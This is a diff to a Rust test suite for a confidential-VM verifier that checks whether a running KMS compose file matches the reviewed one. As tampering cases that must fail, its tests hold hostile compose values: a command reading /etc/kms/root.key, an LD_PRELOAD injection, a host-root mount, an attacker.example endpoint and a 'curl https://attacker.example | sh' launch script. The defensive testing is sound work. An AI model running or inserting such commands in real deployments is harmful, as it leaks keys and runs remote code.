@@ -1,10 +1,13 @@
 //! T36: the KMS that gives the app its keys. Each lie has its own reason, and none accuses the app.
 
 use cvm_verify_core::checks::Check;
+use cvm_verify_core::compose::UnprovenDocument;
 use cvm_verify_core::evidence::{
     BootstrapSource, MAX_KMS, RecordedBootstrap, RecordedCollateral, RecordedKms,
 };
-use cvm_verify_core::policy::{KeyProviders, KmsMode, KmsPolicy, Origin, OsImagePolicy, TcbException};
+use cvm_verify_core::policy::{
+    KeyProviders, KmsDocument, KmsMode, KmsPolicy, Origin, OsImagePolicy, TcbException,
+};
 use cvm_verify_core::report::{CheckId, Status, Verdict};
 use cvm_verify_core::verify::UnusableCollateral;
 use serde_json::{Value, json};
@@ -223,6 +226,114 @@ fn t36_other_code_convicts_and_unnamed_code_is_open() {
     fails_alone(&other_build, "other-build");
 }
 
+/// A KMS that runs this docker compose file, with these members around it.
+fn running(file: &str, members: &[(&str, Value)]) -> Kms {
+    let healthy = kms();
+    let mut cvm = healthy.cvm;
+    let document = simulator::app_compose::app_compose(file);
+    let mut document: serde_json::Map<String, Value> = serde_json::from_str(&document).unwrap();
+    document.remove("pre_launch_script");
+    document.extend(
+        members
+            .iter()
+            .map(|(name, value)| ((*name).to_owned(), value.clone())),
+    );
+    cvm.app_compose = Value::from(document).to_string();
+    Kms::of(cvm, healthy.root)
+}
+
+/// The user reviewed this document, and has it; another one runs.
+fn reviewed(reviewed: &Kms, runs: &Kms) -> Trial {
+    let text = &reviewed.cvm.app_compose;
+    let document = KmsDocument {
+        hash: reviewed.cvm.compose_hash(),
+        document: UnprovenDocument::read(text).unwrap(),
+    };
+    honest(runs).with(|trial| {
+        let hashes = vec![document.hash];
+        trial.policy.kms.compose_hashes = Some(expected("kms-compose-file", hashes));
+        trial.policy.kms.documents = vec![document];
+    })
+}
+
+const OFFICIAL: &str = "\
+services:
+  kms:
+    image: ghcr.io/dstack-tee/dstack-kms@sha256:fcd5ab703c16adf6f41e7c849a5bd23080375ec7f283cfec7fc9985875909749
+    volumes:
+      - /var/run/dstack.sock:/var/run/dstack.sock
+";
+
+#[test]
+fn t36_a_document_of_an_official_image_is_known_as_a_whole() {
+    let official = running(OFFICIAL, &[]);
+    let judged = reviewed(&official, &official).judge();
+    judged.passes().proves(ID);
+    assert!(
+        judged.detail(ID).contains("(images: kms: dstack-kms 0.6.6)"),
+        "{judged}"
+    );
+    // The official digest beside something that replaces what the image runs.
+    let image = "    volumes:";
+    for lie in [
+        "    entrypoint: [sh, -c, 'cat /etc/kms/root.key']\n    volumes:",
+        "    command: [sleep, infinity]\n    volumes:",
+        "    environment:\n      LD_PRELOAD: /etc/kms/x.so\n    volumes:",
+        "    environment:\n      KMS_AUTH: http://attacker.example\n    volumes:",
+        "    user: root\n    volumes:\n      - /:/host",
+    ] {
+        let lying = running(&OFFICIAL.replace(image, lie), &[]);
+        fails_alone(&reviewed(&official, &lying), "other-build");
+    }
+    let second = format!(
+        "{OFFICIAL}  second:\n    image: attacker/x@sha256:{}\n",
+        "11".repeat(32)
+    );
+    fails_alone(&reviewed(&official, &running(&second, &[])), "other-build");
+    let script = [("pre_launch_script", json!("curl https://attacker.example | sh"))];
+    fails_alone(&reviewed(&official, &running(OFFICIAL, &script)), "other-build");
+}
+
+#[test]
+fn t36_a_document_that_does_not_name_its_code_is_open() {
+    let digest = OFFICIAL.split_once('@').unwrap().1.lines().next().unwrap();
+    let tag = running(&OFFICIAL.replace(&format!("@{digest}"), ":0.6.6"), &[]);
+    let judged = is_open(&reviewed(&tag, &tag), "code-open");
+    assert!(judged.detail(ID).contains("image-pins says"), "{judged}");
+    let variable = OFFICIAL.replace(&digest[7..], "${DIGEST}");
+    let variable = running(&variable, &[("allowed_envs", json!(["DIGEST"]))]);
+    is_open(&reviewed(&variable, &variable), "code-open");
+    // Another image with a digest is code that the user reviewed, and no release that is known.
+    let own = running(&OFFICIAL.replace("fcd5", "fcd6"), &[]);
+    let judged = reviewed(&own, &own).judge();
+    judged.passes().proves(ID);
+    assert!(judged.detail(ID).contains("kms: no known release"), "{judged}");
+    // Values from outside, an old release: to look at.
+    let outside = OFFICIAL.replace(
+        "    volumes:",
+        "    environment:\n      RPC: ${ETH_RPC_URL}\n    volumes:",
+    );
+    let outside = running(&outside, &[("allowed_envs", json!(["ETH_RPC_URL"]))]);
+    reviewed(&outside, &outside)
+        .judge()
+        .says(ID, Status::Warn, "launch-inputs")
+        .concludes(Verdict::Pass);
+    let script = running(OFFICIAL, &[("pre_launch_script", json!("echo"))]);
+    reviewed(&script, &script)
+        .judge()
+        .says(ID, Status::Warn, "launch-inputs")
+        .concludes(Verdict::Pass);
+    let old = running(simulator::kms::DOCKER_COMPOSE, &[]);
+    reviewed(&old, &old)
+        .judge()
+        .says(ID, Status::Warn, "old-release")
+        .concludes(Verdict::Pass);
+    // A tag that reads like a digest of a release.
+    let named = OFFICIAL.replace("dstack-kms@sha256", "dstack-kms:0.6.6@sha256");
+    let named = running(&named, &[]);
+    reviewed(&named, &named).judge().passes().proves(ID);
+}
+
 /// What the VM of a healthy app records of the KMS that served it.
 fn mr_kms() -> [u8; 32] {
     let log = Cvm::healthy(&World::default()).measured_log();
@@ -254,6 +365,13 @@ fn t36_an_answer_of_another_ca_or_none_is_named() {
     let mut other = kms();
     other.meta["ca_cert"] = root_certificate(&World::default(), 7).into();
     fails_alone(&honest(&other), "meta-ca");
+    // A KMS that changes to a root that the user named, too.
+    let both = format!("kms:{},kms:{}", simulated_kms_id(kms().root), simulated_kms_id(7));
+    let both: KeyProviders = both.parse().unwrap();
+    let changing = honest(&other).with(|trial| {
+        trial.policy.key_provider = Some(expected("--key-provider", both));
+    });
+    is_open(&changing, "other-epoch");
     for meta in [json!({}), json!([]), json!({ "ca_cert": 1 })] {
         let mut kms = kms();
         kms.meta = meta;
@@ -294,15 +412,23 @@ fn t36_evidence_that_is_not_the_servers_own_convicts_the_server() {
         .identity(1, DEFAULT_NOW)
         .without_ra_tls_extension(RA_TLS_USAGE)
         .with_ra_tls_extension(RA_TLS_USAGE, b"app:custom");
-    fails_alone(&showing(&kms, &usage), "usage");
+    is_open(&showing(&kms, &usage), "usage");
     let twice = kms
         .identity(1, DEFAULT_NOW)
         .with_ra_tls_extension(RA_TLS_USAGE, b"kms:rpc");
-    fails_alone(&showing(&kms, &twice), "malformed");
+    is_open(&showing(&kms, &twice), "malformed");
+    // That of an app's CA, which the root key signs for every app.
+    let app = TlsIdentity::ra_tls(1, DEFAULT_NOW, &Cvm::healthy(&World::default()));
+    let ca = app.chain_der().into_iter().skip(1).collect();
+    is_open(&showing(&kms, &app.presenting_chain(ca)), "usage");
     let bare = kms
         .identity(1, DEFAULT_NOW)
         .without_ra_tls_extension(RA_TLS_ATTESTATION);
     fails_alone(&showing(&kms, &bare), "no-evidence");
+    let bare_of_ca = bare
+        .without_ra_tls_extension(RA_TLS_USAGE)
+        .with_ra_tls_extension(RA_TLS_USAGE, b"app:ca");
+    is_open(&showing(&kms, &bare_of_ca), "usage");
     let other_app = kms
         .identity(1, DEFAULT_NOW)
         .with_ra_tls_extension(RA_TLS_APP_ID, &[7; 20]);
